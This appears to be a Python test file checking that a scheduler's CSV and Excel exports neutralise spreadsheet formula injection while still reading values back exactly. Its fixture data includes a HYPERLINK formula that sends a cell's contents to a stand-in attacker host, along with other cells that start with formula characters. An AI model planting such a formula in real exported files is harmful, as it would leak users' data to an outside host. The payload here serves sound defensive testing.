"""CSV files we hand out never start a cell with a formula (OWASP "CSV Injection"), and
schedule.csv still reads back exactly: names, organisations and ids that begin with = + - @."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from scheduler.diff import diff_schedules, diff_to_csv
from scheduler.domain import Meeting, Schedule
from scheduler.io.codec import FORMULA_STARTS, from_spreadsheet_cell, spreadsheet_cell
from scheduler.io.loading import load_event_bytes
from scheduler.io.schedule_files import read_schedule_csv, write_schedule_csv
from scheduler.unmet.explain import UnmetWish
from scheduler.unmet.files import write_unmet_csv

EVENT = (
    b'name = "Formula"\nslot_minutes = 20\ntables = 2\n[[days]]\ndate = "2027-03-10"\nstart = "09:00"\nend = "10:00"\n'
)
PEOPLE = (
    b"id,name,organisation\n"
    b'=cmd,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+Org\n'
    b"@x,@Name,-Org\n"
    b"'q,'Quoted,Plain\n"
    b"p4,Plain Person,Plain Org\n"
)
WISHES = b"requester,target\n=cmd,@x\n'q,p4\n=cmd,p4\n"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _safe(text: str) -> bool:
    return not any(cell[:1] in FORMULA_STARTS for cell in _cells(text))


@given(st.text(max_size=12))
def test_a_cell_reads_back_as_written(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert cell[:1] not in FORMULA_STARTS
    assert from_spreadsheet_cell(cell) == value


def test_schedule_csv_cells_never_start_a_formula_and_read_back() -> None:
    event = load_event_bytes(EVENT, PEOPLE, WISHES).event
    schedule = Schedule.of([Meeting(0, "1", "=cmd", "@x"), Meeting(1, "2", "'q", "p4")])
    text = write_schedule_csv(event, schedule)
    assert _safe(text)
    assert "'=HYPERLINK" in text and "'@x" in text and "''q" in text
    again, warnings = read_schedule_csv(text.encode(), event)
    assert again == schedule and not warnings


def test_diff_and_unmet_csv_cells_never_start_a_formula() -> None:
    event = load_event_bytes(EVENT, PEOPLE, WISHES).event
    old = Schedule.of([Meeting(0, "1", "=cmd", "@x")])
    new = Schedule.of([Meeting(1, "1", "=cmd", "@x"), Meeting(0, "2", "'q", "p4")])
    assert _safe(diff_to_csv(event, diff_schedules(event, old, new)))
    unmet = [UnmetWish("=cmd", "p4", 2, False, "busy", "=1+1", ("@x with =cmd at 2027-03-10 #1 09:00",))]
    text = write_unmet_csv(unmet)
    assert _safe(text) and "'=1+1" in text


def test_the_excel_download_holds_text_not_formulas() -> None:
    import datetime as dt

    from openpyxl import load_workbook

    from api.documents import schedule_xlsx
    from api.storage import EventRow, ScheduleRow

    event = load_event_bytes(EVENT, PEOPLE, WISHES).event
    text = write_schedule_csv(event, Schedule.of([Meeting(0, "1", "=cmd", "@x")]))
    row = EventRow(id="e1", name="Formula")
    srow = ScheduleRow(event_id="e1", version=1, csv=text, created_at=dt.datetime.now(dt.UTC))
    sheet = load_workbook(io.BytesIO(schedule_xlsx(row, srow).data)).active
    assert sheet is not None
    values = [c.value for c in sheet[2]]
    assert "=cmd" in values and "@x" in values  # the ids exactly, unmarked
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
